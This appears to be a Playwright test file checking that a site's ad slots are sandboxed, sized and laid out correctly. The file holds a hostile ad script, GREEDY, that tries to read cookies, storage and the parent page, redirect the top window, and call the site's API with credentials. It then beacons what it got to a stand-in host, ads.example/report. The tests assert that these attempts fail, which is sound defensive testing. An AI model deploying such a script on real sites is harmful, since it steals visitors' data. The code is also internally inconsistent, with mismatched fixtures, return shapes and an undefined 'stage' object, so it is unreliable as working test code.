import type { Browser, BrowserContext, Page, Route } from '@playwright/test';
import { ContextPool } from '#tests/e2e/support/context-pool.ts';
import { shiftsOf, steadyShiftsOf } from '#tests/e2e/support/layout-shifts.ts';
import { freePort } from '#tests/e2e/support/shared-sites.ts';
import { DESKTOP, expect, PHONE, test, untilAlive } from '#tests/e2e/support/test.ts';
import { withVirtualTime } from '#tests/e2e/support/virtual-time.ts';
import { storedFaces } from '#tests/support/build.ts';
import { CHROMIUM, launchBrowser } from '#tests/support/chromium.ts';
import { createFactsDatabase, type TestDatabase } from '#tests/support/database.ts';
import { RECORD_SHIFTS } from '#tests/support/record-shifts.ts';
import { type ServedSite, type Settings, serveSite } from '#tests/support/served-site.ts';
import { STORE_FACES } from '#tests/support/store-faces.ts';

/** Not this machine by its name, so that ads are shown. */
const HOST = 'naru.example';
const NETWORK = {
  AD_PROVIDER: 'gpt',
  AD_NETWORK_SCRIPT_URL: 'https://ads.example/tag.js',
  AD_GPT_NETWORK: '/1234/naru',
};
const SLOT = '[data-ad-slot]';

/** Says what it could do, and takes all the room it can get. It does not leave a document of its own, which would cut its report off. */
const GREEDY = `
const tries = {
  cookie: () => document.cookie,
  storage: () => localStorage.getItem('ad-consent'),
  page: () => parent.document.title,
  address: () => { if (top !== self) top.location.href = 'https://ads.example/elsewhere'; return top.location.href; },
};
const got = {};
for (const [name, act] of Object.entries(tries)) {
  try { got[name] = String(act()); } catch (error) { got[name] = error.name; }
}
got.origin = self.origin;
fetch('ORIGIN/api/items/', { credentials: 'include' }).then(() => 'read', (error) => error.name).then((fetched) => {
  new Image().src = 'https://ads.example/report?' + encodeURIComponent(JSON.stringify({ ...got, fetched }));
  parent.postMessage({ type: 'resize', height: 5000 }, '*');
  parent.postMessage({ type: 'filled', height: 5000 }, '*');
  document.body.style.cssText = 'width:5000px;height:5000px;background:red';
});
`;
const EMPTY = "parent.postMessage({ type: 'empty' }, '*')";

describe.skipIf(CHROMIUM === undefined)('ads in a browser', () => {
  let database: TestDatabase;
  let browser: Browser;
  const sites = new Map<string, { site: ServedSite; origin: string }>();
  const contexts: { context: BrowserContext; origin: string }[] = [];
  const pool = new ContextPool(async (options) => {
    const context = await browser.newContext(options);
    await context.addInitScript(STORE_FACES, storedFaces());
    await context.addInitScript(RECORD_SHIFTS);
    return context;
  });

  async function open(name: string, settings: Settings): Promise<void> {
    const PORT = String(await freePort());
    const origin = `http://${HOST}:${PORT}`;
    const site = await serveSite({ DATABASE_URL: database.url, PORT, PUBLIC_SITE_URL: origin, ...settings });
    sites.set(name, { site, origin });
  }

  test.beforeAll(async () => {
    database = await createFactsDatabase();
    await open('house', {});
    await open('network', NETWORK);
    const origins = [...sites.values()].map(({ origin }) => origin);
    browser = await launchBrowser(CHROMIUM, [
      `--host-resolver-rules=MAP ${HOST} 127.0.0.1`,
      `--unsafely-treat-insecure-origin-as-secure=${origins.join(',')}`,
    ]);
  });
  test.afterEach(async () => {
    for (const { context, origin } of contexts.splice(0)) await pool.release(context, origin);
  });
  test.afterAll(async () => {
    await browser?.close();
    for (const { site } of sites.values()) await site.stop();
    await database?.drop();
  });

  interface VisitOptions {
    device?: typeof DESKTOP;
    /** Answers the network's requests; what it asked for is listed. */
    network?: (route: Route) => Promise<unknown>;
    prepare?(page: Page): Promise<unknown>;
  }

  async function visit(
    name: 'house' | 'network',
    path: string,
    { device = DESKTOP, network, prepare }: VisitOptions = {},
  ) {
    const { origin = '' } = sites.get(name) ?? {};
    const page = await pool.acquire({ ...device, locale: 'ko-KR', baseURL: origin });
    const context = page.context();
    contexts.push({ context, origin });
    await context.addCookies([{ name: 'secret', value: 'of-the-visitor', url: origin }]);
    const asked: string[] = [];
    page.on('request', (request) => {
      if (new URL(request.url()).hostname !== HOST) asked.push(request.url());
    });
    // Only where something is answered: it keeps the browser from caching, and faces would come late on each visit.
    if (network) await context.route(/^https?:\/\/(?!naru\.example)/, network);
    await prepare?.(page);
    await page.goto(path);
    await untilAlive(page);
    return { page, asked, origin };
  }

  const script = (body: string) => (route: Route) => route.fulfill({ contentType: 'text/javascript', body });
  const greedyAt = (name: string) => script(GREEDY.replace('ORIGIN', sites.get(name)?.origin ?? ''));
  const agree = async (page: Page) => {
    await page.locator(SLOT).first().getByRole('button', { name: '맞춤 광고' }).click();
    await page.locator(`${SLOT} iframe`).first().waitFor();
  };
  /** What moved from here on. */
  const shiftsFrom = async (page: Page) => {
    const { length } = await shiftsOf(page);
    return async () => (await shiftsOf(page)).slice(length);
  };
  const reportsIn = (asked: readonly string[]): unknown[] =>
    asked
      .filter((url) => url.includes('/report?'))
      .map((url) => JSON.parse(decodeURIComponent(new URL(url).search.slice(1))));

  test.describe('without a network', () => {
    test('are hints of the site in both rails, ask nobody for anything and move nothing', async ({ visit }) => {
      const { page, asked } = await visit('house', '/items', { device: { viewport: { width: 1640, height: 900 } } });
      await page.locator(SLOT).nth(1).waitFor();
      const boxes = await Promise.all((await page.locator(SLOT).all()).map((slot) => slot.boundingBox()));
      expect(boxes.map((box) => `${box?.width}x${box?.height}`)).toEqual(['160x600', '160x600']);
      const [left, right] = await page.locator(`${SLOT} a`).allTextContents();
      expect(left).not.toBe(right);
      expect(asked).toEqual([]);
      expect(await steadyShiftsOf(page)).toEqual([]);
    });

    for (const [width, count, size] of [
      [1343, 0, 0],
      [1344, 2, 120],
      [1431, 2, 120],
      [1432, 2, 120],
      [1624, 2, 160],
    ] as const)
      test(`p§2 ads: rails at ${width} px: ${count}, the ad ${size} px wide, beside the whole column`, async ({
        visit,
      }) => {
        const page = await visit('house', '/items', { device: { viewport: { width, height: 900 } } });
        await expect.poll(() => page.locator(SLOT).count()).toBe(count);
        if (count === 0) return;
        expect((await page.locator(SLOT).first().boundingBox())?.width).toBe(size);
        // The browser's own scrollbar takes its room from the column.
        const room = await page.evaluate(() => document.querySelector('.frame')?.clientWidth ?? 0);
        const column = Math.min(1080, room - (width < 1432 ? 2 * (120 + 12) : 2 * (160 + 16)));
        expect((await page.locator('main').boundingBox())?.width).toBe(column);
        expect((await page.locator('.top-in').boundingBox())?.width).toBe(column);
      });

    test('p§4 ads: stay for 30 s on a page, then change with the path and with nothing else', async ({ visit }) => {
      const page = await visit('house', '/items', { prepare: withVirtualTime });
      const hint = () => page.locator(`${SLOT} a`).first().textContent();
      await page.clock.runFor(3000);
      await page.locator(SLOT).first().waitFor();
      const first = await hint();
      await page.clock.runFor(20_000);
      await page.getByRole('link', { name: '기술', exact: true }).first().click();
      await page.waitForURL('**/skills');
      expect(await hint()).toBe(first);
      await page.mouse.move(10, 10);
      await page.clock.runFor(31_000);
      expect(await hint()).toBe(first);
      await page.getByRole('link', { name: '지도', exact: true }).first().click();
      await page.waitForURL('**/maps');
      await expect.poll(hint).not.toBe(first);
    });

    test('lie over the tab bar of a phone, and cover neither a field, nor the bar, nor the end of the page', async ({
      visit,
    }) => {
      const page = await visit('house', '/items', { device: PHONE });
      const anchor = page.locator('[data-ad-slot="anchor"]');
      await anchor.waitFor();
      const boxOf = async (selector: string) => {
        const box = await page.locator(selector).boundingBox();
        return { top: box?.y ?? Number.NaN, bottom: (box?.y ?? Number.NaN) + (box?.height ?? Number.NaN) };
      };
      expect((await boxOf('[data-ad-slot="anchor"]')).bottom).toBeLessThanOrEqual((await boxOf('.tabbar')).top);
      expect(await steadyShiftsOf(page)).toEqual([]);
      await page.evaluate(() => scrollTo(0, document.documentElement.scrollHeight));
      const last = await page.evaluate(() => {
        const texts = document.createTreeWalker(document.querySelector('main') ?? document.body, NodeFilter.SHOW_TEXT);
        let bottom = 0;
        const range = document.createRange();
        while (texts.nextNode()) {
          range.selectNode(texts.currentNode);
          bottom = Math.max(bottom, range.getBoundingClientRect().bottom);
        }
        return bottom;
      });
      expect(last).toBeLessThanOrEqual((await boxOf('[data-ad-slot="anchor"]')).top);
      await page.evaluate(() => scrollTo(0, 0));
      await page.evaluate(() => {
        const field = Object.assign(document.createElement('input'), { id: 'field' });
        document.querySelector('main')?.prepend(field);
        field.focus();
      });
      expect(await anchor.isVisible()).toBe(false);
      await page.locator('#field').blur();
      expect(await anchor.isVisible()).toBe(true);
    });

    test('are decided once after ten thousand resizes', async ({ visit }) => {
      const page = await visit('house', '/items');
      await page.locator(SLOT).first().waitFor();
      const changes = await page.evaluate(async () => {
        let count = 0;
        const watch = new MutationObserver((records) => (count += records.length));
        for (const rail of document.querySelectorAll('.rail')) watch.observe(rail, { childList: true, subtree: true });
        for (let at = 0; at < 10_000; at += 1) dispatchEvent(new Event('resize'));
        await new Promise((resolve) => setTimeout(resolve, 600));
        return count;
      });
      expect(changes).toBe(0);
      await page.setViewportSize({ width: 1300, height: 900 });
      await expect.poll(() => page.locator(SLOT).count()).toBe(0);
    });

    test('go without the line, and with a page that has none', async ({ visit }) => {
      const page = await visit('house', '/items');
      await page.locator(SLOT).first().waitFor();
      await page.context().setOffline(true);
      await expect.poll(() => page.locator(SLOT).count()).toBe(0);
      await page.context().setOffline(false);
      await expect.poll(() => page.locator(SLOT).count()).toBe(2);
      await page.goto('/notice/policy');
      await untilAlive(page);
      await page.waitForTimeout(500);
      expect(await page.locator(SLOT).count()).toBe(0);
    });
  });

  test.describe('of a network', () => {
    test('are asked about first: two buttons of one size, and nobody is called', async ({ visit }) => {
      const { page, asked } = await visit('network', '/items');
      const slot = page.locator(SLOT).first();
      const [all, basic] = ['맞춤 광고', '기본만'].map((name) => slot.getByRole('button', { name }));
      const sizes = [await all?.boundingBox(), await basic?.boundingBox()].map((box) => [box?.width, box?.height]);
      expect(sizes[0]).toEqual(sizes[1]);
      expect(asked).toEqual([]);
      await basic?.click();
      await expect.poll(() => page.locator(`${SLOT} a`).count()).toBe(2);
      await page.reload();
      await untilAlive(page);
      await page.locator(`${SLOT} a`).first().waitFor();
      expect(asked).toEqual([]);
      expect(await steadyShiftsOf(page)).toEqual([]);
    });

    test('read neither cookie nor page, call nothing of the site, and take no room that is not theirs', async ({
      visit,
    }) => {
      const { page, asked } = await visit('network', '/items', { network: greedyAt('network') });
      const title = await page.title();
      const shifts = await shiftsFrom(page);
      await agree(page);
      await expect.poll(() => reportsIn(asked).length).toBe(2);
      for (const report of reportsIn(asked)) {
        expect(report).toEqual({
          cookie: 'SecurityError',
          storage: 'SecurityError',
          page: 'SecurityError',
          address: 'SecurityError',
          origin: 'null',
          fetched: 'TypeError',
        });
      }
      expect([await page.title(), new URL(page.url()).pathname]).toEqual([title, '/items']);
      expect((await page.locator(SLOT).first().boundingBox())?.height).toBe(600);
      expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(
        DESKTOP.viewport.width,
      );
      expect(await shifts()).toEqual([]);
    });

    test('read no cookie when the address of the frame is opened as a document', async ({ visit }) => {
      const { page, asked } = await visit('network', '/items', { network: greedyAt('network') });
      await page.goto('/ads/frame/left?size=160x600');
      await expect.poll(() => reportsIn(asked).length).toBe(1);
      expect(reportsIn(asked)[0]).toMatchObject({
        cookie: 'SecurityError',
        storage: 'SecurityError',
        origin: 'null',
        fetched: 'TypeError',
      });
    });

    test('that have nothing leave the room to a hint of the site, and other frames are not heard', async ({
      visit,
    }) => {
      const page = await visit('network', '/items', { network: script(EMPTY) });
      await page.evaluate(() => postMessage({ type: 'empty' }, '*'));
      const shifts = await shiftsFrom(page);
      await agree(page).catch(() => undefined);
      await expect.poll(() => page.locator(`${SLOT} a`).count()).toBe(2);
      expect(await shifts()).toEqual([]);
    });

    for (const [name, network] of [
      ['is refused', (route: Route) => route.abort()],
      ['never comes', () => new Promise(() => {})],
      ['is a document of 50 MB', script(`/*${' '.repeat(50_000_000)}*/`)],
      [
        'is no script',
        (route: Route) => route.fulfill({ status: 500, contentType: 'text/html', body: '<h1>500</h1>' }),
      ],
    ] as const)
      test(`whose answer ${name} leave the page as it is`, async ({ visit }) => {
        const page = await visit('network', '/items', { network });
        const shifts = await shiftsFrom(page);
        await page.locator(SLOT).first().getByRole('button', { name: '맞춤 광고' }).click();
        await page.waitForTimeout(500);
        expect((await page.locator(SLOT).first().boundingBox())?.height).toBe(600);
        expect(await shifts()).toEqual([]);
        await page.getByRole('link', { name: '기술', exact: true }).first().click();
        await page.waitForURL('**/skills');
      });

    test('are chosen for as long as the page is open where the browser stores nothing', async ({ visit }) => {
      const page = await visit('network', '/items', {
        network: greedyAt('network'),
        prepare: (one) =>
          one.addInitScript(() =>
            Object.defineProperty(window, 'localStorage', {
              get() {
                throw new DOMException('blocked', 'SecurityError');
              },
            }),
          ),
      });
      await agree(page);
      await page.getByRole('link', { name: '기술', exact: true }).first().click();
      await page.waitForURL('**/skills');
      expect(await page.locator(`${SLOT} iframe`).count()).toBe(2);
    });

    test('are chosen again in the footer', async ({ visit }) => {
      const page = await visit('network', '/items', { network: greedyAt('network') });
      await agree(page);
      await page.locator('.foot [data-ad-choice]').click();
      await page.getByRole('dialog').getByRole('button', { name: '기본만' }).click();
      await expect.poll(() => page.locator(`${SLOT} a`).count()).toBe(2);
      expect(await page.getByRole('dialog').count()).toBe(0);
      expect(new URL(page.url()).pathname).toBe('/items');
    });
  });
});

test.describe('the stub on this machine', () => {
  test('holds the page and grows, and moves nothing', async ({ visit }) => {
    const page = await stage.visit('/geniee/test');
    await page.locator('[data-stub="done"]').nth(2).waitFor();
    const sizes = await page
      .locator('main .panel > div')
      .evaluateAll((boxes) =>
        boxes.map((box) => `${box.getBoundingClientRect().width}x${box.getBoundingClientRect().height}`),
      );
    expect(sizes).toEqual(['120x600', '120x600', '320x50']);
    expect(await steadyShiftsOf(page)).toEqual([]);
  });

  test('is all there is: elsewhere nothing is loaded for ads', async ({ visit }) => {
    const page = await stage.visit('/items');
    await page.waitForLoadState('networkidle');
    expect(await page.locator(SLOT).count()).toBe(0);
    const files = await page.evaluate(() => performance.getEntriesByType('resource').map(({ name }) => name));
    expect(files.filter((name) => /start-ads|fill-slot/.test(name))).toEqual([]);
  });
});
